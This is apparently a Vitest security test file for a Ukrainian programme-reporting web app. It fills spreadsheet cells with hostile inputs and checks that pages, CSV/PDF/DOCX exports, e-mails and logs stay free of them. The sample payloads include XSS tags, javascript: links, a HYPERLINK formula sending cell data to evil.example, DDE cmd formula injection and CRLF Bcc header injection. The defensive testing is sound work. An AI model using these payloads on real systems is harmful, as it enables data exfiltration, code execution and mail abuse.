import { parse as parseCsv } from 'csv-parse/sync'
import { parse } from 'node-html-parser'
import { describe, expect, test } from 'vitest'
import { tabs } from '../../lib/programme/schema.ts'
import { docxPart } from '../docx-text.ts'
import { readPdf } from '../pdf-text.ts'
import { openOffice, type Tabs, type TestOffice } from './fixtures/office.ts'

/** What a malicious editor, or a careless copy from elsewhere, may leave in a cell. */
const hostile = {
  markup: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  attribute: `"><iframe srcdoc='x'></iframe><a href="javascript:alert(3)" onclick='a()'>`,
  link: 'javascript:alert(4)',
  formula: '=HYPERLINK("https://evil.example/?"&A1;"тисніть")',
  plus: '+7+cmd|"/c calc"!A0',
  at: '@SUM(1+1)*cmd|"/c calc"!A0',
  tab: '\t=1+1',
  bidi: '\u202Eгпж.титівз\u202C \u2066сховано\u2069',
  lines: 'УП\r\nBcc: evil@evil.example\r\nSet-Cookie: a=b\r\n\r\n<p>лист</p>',
  zero: 'УП\u200B\u0000\u0008',
  half: '\uD83D половина',
  template: '${process.env.SMTP_URL} {{constructor}} %s %n',
} as const

function headersOf(tab: (typeof tabs)['measures' | 'entries' | 'units']) {
  return Object.values(tab.columns).map(({ header }) => header)
}

/** A programme that can be read, with the text in every cell in which it does not keep the programme from being read. */
function office(text: string): Tabs {
  const measures = headersOf(tabs.measures)
  const entries = headersOf(tabs.entries)
  return {
    Заходи: [
      measures,
      ['1.1', text, text, text, 'ІІ квартал', '', 'УП', text, text, ''],
      ['1.2', text, text, text, text, text, text, text, text, ''],
      ['1.3', text, text, text, 'до 1 вересня 2023 року', '', 'УП', text, text, text],
      [text, text, text, text, 'ІІІ квартал', '', text, text, text, ''],
    ],
    Виконання: [
      entries,
      ['1.1', text, '', '29.05.2023', 'Виконано частково', text, '5', text, text, text, ''],
      ['1.2', text, '01.06.2023', '30.06.2023', 'Виконано', text, text, text, text, 'УП', text],
      [text, text, text, text, text, text, text, text, text, text, text],
    ],
    Підрозділи: [
      headersOf(tabs.units),
      ['УП', text, 'up@dms.example', text],
      [text, text, text, 'head@dms.example'],
      ['ВЗК', text, 'vzk@dms.example', ''],
    ],
    Налаштування: [
      ['Параметр', 'Значення'],
      ['Назва органу', text],
      ['Назва програми', text],
      ['Назва програми (родовий)', text],
      ['Додаток №', text],
      ['Назва звіту', text],
      ['Підписант: посада', text],
      ['Підписант: ім’я', text],
      ['ЗАТВЕРДЖЕНО', text],
      ['Воєнний стан до', text],
      ['Початок програми', '01.01.2023'],
      ['Кінець програми', '31.12.2025'],
      ['Уповноважений підрозділ', 'ВЗК'],
      [text, text],
    ],
    Календар: [
      ['Дата', 'День', 'Підстава'],
      [text, text, text],
    ],
  }
}

/** Elements, links and attributes that execute or fetch something. */
function dangers(page: string): string[] {
  const root = parse(page)
  const runs = root.querySelectorAll('script, img, object, embed, base[href], iframe[src], meta[http-equiv]')
  const attributes = root.querySelectorAll('*').flatMap(({ attributes: given, rawTagName }) =>
    Object.entries(given)
      .filter(
        ([name, value]) =>
          /^on/iu.test(name) ||
          (['href', 'src', 'action', 'formaction'].includes(name) &&
            !/^(?:https?:\/\/|\/|#|\?|data:,$)/u.test(value) &&
            value !== ''),
      )
      .map(([name, value]) => `${rawTagName} ${name}=${value}`),
  )
  return [...runs.map(({ outerHTML }) => outerHTML.slice(0, 100)), ...attributes]
}

const pages = ['/overview', '/overview?unit=%D0%A3%D0%9F', '/validate', '/digest']

async function read({ get }: TestOffice, path: string) {
  const answer = await get(path, { Accept: 'text/html' })
  expect([path, answer.status]).toEqual([path, 200])
  return answer
}

describe.each(Object.entries(hostile))('%s in every cell', (_, text) => {
  test('pages execute nothing, fetch nothing and have no bidirectional controls', async () => {
    const here = await openOffice(office(text))
    for (const path of pages) {
      const page = await (await read(here, path)).text()
      const inner = parse(page)
        .querySelectorAll('iframe')
        .map((frame) => frame.getAttribute('srcdoc') ?? '')
      expect([path, ...[page, ...inner].flatMap(dangers)]).toEqual([
        path,
        // E-mails are shown in sandboxed frames, whose links open elsewhere.
      ])
    }
  })

  test('files contain text, and no formulas, links or code', async () => {
    const here = await openOffice(office(text))
    for (const path of ['/report?format=csv', '/overview?format=csv']) {
      const rows: string[][] = parseCsv(await (await read(here, path)).text(), {
        bom: true,
        relax_column_count: true,
      })
      expect(rows.flat().filter((cell) => /^[\s\uFEFF]*[=+@]/u.test(cell) || /^-(?!\d)/u.test(cell))).toEqual(
        [],
      )
    }
    const pdf = Buffer.from(await (await read(here, '/report')).arrayBuffer())
    expect(pdf.toString('latin1')).not.toMatch(/\/(?:JavaScript|JS|Launch|SubmitForm)\b/u)
    expect((await readPdf(pdf)).links.filter((url) => !url.startsWith('https://'))).toEqual([])
    const docx = Buffer.from(await (await read(here, '/report?format=docx')).arrayBuffer())
    const links = docxPart(docx, 'word/_rels/document.xml.rels')
    expect(
      [...links.matchAll(/Target="([a-z]+:[^"]*)"/gu)]
        .map(([, target = '']) => target)
        .filter((target) => !target.startsWith('https://')),
    ).toEqual([])
    expect(docxPart(docx)).not.toMatch(/instrText[^>]*>[^<]*HYPERLINK/u)
  })

  test('e-mails have their recipients and headers alone', async () => {
    const { post, outbox } = await openOffice(office(text))
    expect((await post('/digest')).status).toBe(200)
    const letters = outbox.emails()
    expect(letters.length).toBeGreaterThan(0)
    const known = new Set(['up@dms.example', 'vzk@dms.example', 'head@dms.example'])
    for (const { envelope, headers, html, subject } of letters) {
      expect(envelope?.to.filter((address) => !known.has(address))).toEqual([])
      expect([headers.has('bcc'), headers.has('set-cookie')]).toEqual([false, false])
      expect(dangers(html)).toEqual([])
      expect(subject).not.toMatch(/[\u202a-\u202e\u2066-\u2069\r\n]/u)
    }
  })

  test('headers and the log contain nothing of it', async () => {
    const here = await openOffice(office(text))
    const answers = [await read(here, '/report'), await read(here, '/overview?format=json')]
    for (const { headers } of answers) expect(headers.get('set-cookie')).toBeNull()
    await here.post('/validate')
    await here.post('/digest')
    await here.post('/archive?period=2023-H1')
    expect(JSON.stringify(here.log)).not.toContain(JSON.stringify(text).slice(1, -1))
  })
})
